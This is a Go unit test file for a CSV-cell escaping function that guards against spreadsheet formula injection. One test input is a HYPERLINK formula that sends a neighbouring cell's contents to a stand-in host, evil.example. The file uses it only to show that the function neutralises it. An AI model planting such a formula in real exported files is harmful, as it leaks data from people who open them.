package csvcell

import "testing"

func TestSafe(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"Mozilla/5.0", "Mozilla/5.0"},
		{"203.0.113.7", "203.0.113.7"},
		{"::1", "::1"},
		{`=HYPERLINK("https://evil.example/?"&A2,"x")`, `'=HYPERLINK("https://evil.example/?"&A2,"x")`},
		{"+1", "'+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'=1", "''=1"},
		{"'quoted'", "''quoted'"},
		{"a=1", "a=1"},
	} {
		got := Safe(tt.in)
		if got != tt.want {
			t.Errorf("Safe(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if back := Value(got); back != tt.in {
			t.Errorf("Value(Safe(%q)) = %q", tt.in, back)
		}
	}
}

func TestSafeDoesNotAllocateForPlainText(t *testing.T) {
	s := "Mozilla/5.0 (X11; Linux x86_64)"
	if n := testing.AllocsPerRun(100, func() { _ = Safe(s) }); n != 0 {
		t.Errorf("%v allocations", n)
	}
}
